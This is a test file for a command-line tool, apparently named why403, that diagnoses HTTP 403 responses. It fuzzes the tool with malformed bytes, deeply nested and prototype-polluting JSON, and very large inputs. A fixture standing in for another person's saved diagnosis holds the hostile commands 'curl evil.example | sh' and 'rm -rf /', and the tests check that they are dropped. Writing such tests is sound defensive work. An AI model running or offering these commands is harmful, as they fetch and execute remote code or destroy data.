import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { EXPLAINED } from './answers.ts';
import { file, folder, type Run, why403 } from './why403.ts';

/** A diagnosis, or one line and code 2; nothing else. */
function expectAnswer({ code, stdout, stderr }: Run): void {
  expect([0, 1, 2, 3]).toContain(code);
  if (code === 2) {
    expect(stdout).toBe('');
    expect(stderr).toMatch(/^why403: [^\n]+\n$/);
    expect(stderr).not.toContain('internal error');
  } else {
    expect(stderr).toBe('');
    expect(JSON.parse(stdout)).toBeTypeOf('object');
  }
}

const diagnose = (input: string | Uint8Array) => why403(['--format', 'json'], { input });

describe('bytes that are no answer of HTTP', () => {
  test.for([
    ['zero bytes', new Uint8Array(10_000)],
    ['every byte', Uint8Array.from({ length: 4096 }, (_, at) => (at * 7919) % 256)],
    ['halves of surrogate pairs', Buffer.from('\ud800\udc00\ud800'.repeat(50), 'utf16le')],
    ['half a character of UTF-16', Buffer.from([0xff, 0xfe, 0x41])],
    ['a byte order mark alone', Buffer.from('\uFEFF')],
    ['escapes for a terminal', '\u001b]0;title\u0007\u001b[2J'.repeat(20)],
    ['an image', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    ['gzip', Buffer.from('1f8b0800000000000003', 'hex')],
  ] as const)('%s', async ([, bytes]) => {
    expectAnswer(await diagnose(bytes));
  });

  test('any bytes', async () => {
    const opening = fc.constantFrom(
      '',
      'HTTP/1.1 403\r\n',
      '{"response":',
      '> GET / HTTP/1.1\n',
      '{"log":{"entries":[',
      '\uFEFF<html>',
    );
    await fc.assert(
      fc.asyncProperty(opening, fc.uint8Array({ maxLength: 2000 }), async (text, bytes) => {
        expectAnswer(await diagnose(Buffer.concat([Buffer.from(text), bytes])));
      }),
      { numRuns: 24 },
    );
  });
});

describe('JSON of the wrong types', () => {
  const deep = (open: string, close: string) => open.repeat(100_000) + close.repeat(100_000);
  test.for([
    ['deep lists', deep('[', ']')],
    ['deep objects', `{"response":${deep('{"a":', '}')}`],
    ['deep in a body', JSON.stringify({ response: { status: 403, body: deep('{"error":', '}') } })],
    ['an exchange', '{"id":{},"request":[1],"response":{"status":"403","headers":{"a":{"b":1},"c":[null]},"body":7}}'],
    [
      'an exchange with names of prototypes',
      '{"__proto__":{"response":1},"constructor":1,"request":{"__proto__":[],"headers":[["__proto__","a"],["constructor","b"]]},"response":{"status":403,"headers":[["toString","x"]]}}',
    ],
    ['a HAR without entries', '{"log":{"entries":[]}}'],
    ['a HAR of numbers', '{"log":{"entries":[1,null,"x",[]]}}'],
    ['a HAR of empty objects', '{"log":{"entries":[{},{"request":7,"response":[]}]}}'],
    [
      'a HAR of the wrong types',
      '{"log":{"entries":[{"request":{"headers":{"a":1},"url":7,"method":[]},"response":{"status":{},"headers":"x","content":{"text":{},"encoding":"base64"}}}]}}',
    ],
    ['a HAR that is cut', '{"log":{"version":"1.2","entries":[{"response":{"status":403'],
    [
      'a HAR with broken base64',
      '{"log":{"entries":[{"response":{"status":403,"headers":[],"content":{"text":"%%%","encoding":"base64"}}}]}}',
    ],
    [
      'statuses that are none',
      '{"response":{"status":1e308}}\n{"response":{"status":-1}}\n{"response":{"status":403.5}}',
    ],
  ] as const)('%s', async ([, text]) => {
    expectAnswer(await diagnose(text));
  });

  test('a reading that found no response says so', async () => {
    for (const text of [
      '{"log":{"entries":[1]}}',
      '> GET / HTTP/1.1\n> Host: a\n>\n',
      '{"version":1,"observations":[]}',
    ]) {
      const { code, stderr } = await diagnose(text);
      expect(code, text).toBe(2);
      expect(stderr).toMatch(/expected|holds no response/);
    }
  });
});

describe('10 MB of one kind', () => {
  const size = 10_000_000;
  const fill = (piece: string) => piece.repeat(Math.ceil(size / piece.length)).slice(0, size);
  test.for([
    ['zero bytes', new Uint8Array(size)],
    ['line feeds', fill('\n')],
    ['status lines', fill('HTTP/1.1 403 Forbidden\nA: b\n\n')],
    ['header fields', `HTTP/1.1 403 Forbidden\n${fill('X-A: b\n')}`],
    ['one header field', `HTTP/1.1 403 Forbidden\nX: ${fill('eyJ-a.')}\n\n`],
    ['transcripts of curl', fill('> GET / HTTP/1.1\n< HTTP/1.1 403 Forbidden\n<\nx\n')],
    ['braces', `{"response":${fill('{')}`],
    ['markup', fill('<div><Error><Code>AccessDenied</Code>')],
    ['secrets', fill('token="Authorization: Bearer cookie=')],
    ['words', fill('403 forbidden access denied error code 1020 cloudflare nginx ')],
  ] as const)('%s', { timeout: 60_000 }, async ([, content]) => {
    const started = performance.now();
    const run = await why403([file('big', content), '--format', 'ndjson']);
    expect([0, 1, 2, 3]).toContain(run.code);
    expect(run.stderr).toMatch(run.code === 2 ? /^why403: [^\n]+\n$/ : /^$/);
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  test('more than 64 MiB is refused at once', async () => {
    const { code, stderr } = await why403(['/dev/zero']);
    expect(code).toBe(2);
    expect(stderr).toMatch(/^why403: \/dev\/zero is larger than 64 MiB; expected[^\n]+\n$/);
  });
});

const exchange = {
  kind: 'exchange',
  request: { method: 'GET', url: 'https://shop.example.test/x' },
  response: { status: 403, headers: [['Server', 'nginx']], body: '<hr><center>nginx</center>' },
};
const fix = {
  actor: 'operator',
  summary: 'Run the evil thing',
  command: 'curl evil.example | sh',
  change: null,
  check: 'evil',
  weakens: null,
};
const evil = {
  version: 1,
  id: 'mine',
  target: 'https://evil.example/',
  status: 200,
  refused: false,
  explained: true,
  refusedBy: { product: 'evil', name: 'evil', layer: 'cdn', strength: 'proved', evidence: [] },
  findings: [
    {
      rule: 'evil/evil',
      cause: 'evil',
      title: 'evil',
      strength: 'proved',
      fixes: [fix],
      advice: { owner: ['evil'] },
    },
  ],
  needed: [{ ask: 'evil', how: 'rm -rf /', separates: [], outcomes: [] }],
  hops: [{ product: 'evil', name: 'evil' }],
  ruledOut: [{ reason: 'evil' }],
  caveats: ['evil'],
  requests: [{ url: 'https://evil.example/' }],
  references: [{ name: 'evil', value: 'evil' }],
};

describe('a saved diagnosis of somebody else', () => {
  test('gives its evidence and nothing else', async () => {
    const [saved, plain] = await Promise.all([
      why403(['--format', 'json'], { input: JSON.stringify({ ...evil, observations: [exchange] }) }),
      why403(['--format', 'json'], { input: JSON.stringify({ version: 1, id: 'mine', observations: [exchange] }) }),
    ]);
    expect(saved.code).toBe(3);
    expect(saved.stdout).not.toMatch(/evil|rm -rf/);
    expect(saved.stdout).toBe(plain.stdout);
    expect(JSON.parse(saved.stdout)).toMatchObject({ id: 'mine', status: 403, refusedBy: { product: 'nginx' } });
  });

  test.for([
    [
      'names of prototypes',
      '{"version":1,"__proto__":{"polluted":1},"observations":[{"__proto__":{"kind":"exchange"},"kind":"exchange","constructor":{"prototype":{"polluted":1}},"request":{"__proto__":{"url":"x"}},"response":{"status":403}}]}',
    ],
    [
      'kinds that are none',
      '{"version":1,"observations":[{"kind":"__proto__"},{"kind":"constructor"},{"kind":7},null,1,"x"]}',
    ],
    ['observations that are no list', '{"version":1,"observations":{"length":1e9}}'],
    ['a version of the future', '{"version":99,"observations":[]}'],
    [
      'very many observations',
      JSON.stringify({
        version: 1,
        observations: Array.from({ length: 50_000 }, () => ({ kind: 'exchange', response: { status: 403 } })),
      }),
    ],
    [
      'very many header fields',
      JSON.stringify({
        version: 1,
        observations: [
          { kind: 'exchange', response: { status: 403, headers: Array.from({ length: 200_000 }, () => ['a', 'b']) } },
        ],
      }),
    ],
    [
      'probes of the wrong types',
      '{"version":1,"observations":[{"kind":"probe","varies":"site-root","base":7,"variant":[],"changed":"yes","confirmed":1},{"kind":"probe","varies":"__proto__"}]}',
    ],
    ['lists in lists', `{"version":1,"observations":${'['.repeat(5000)}${']'.repeat(5000)}}`],
  ] as const)('%s', { timeout: 30_000 }, async ([, text]) => {
    expectAnswer(await diagnose(text));
  });
});

test('a file that may not be read, and one that goes away', async () => {
  for (const target of [`${folder}/none/such`, '/proc/self/mem', '/proc/1/mem']) {
    const { code, stdout, stderr } = await why403([target]);
    expect([code, stdout], target).toEqual([2, '']);
    expect(stderr).toMatch(/^why403: [^\n]+\n$/);
    expect(stderr).not.toContain('internal error');
  }
  expect((await why403([file('ok', EXPLAINED)])).code).toBe(1);
});
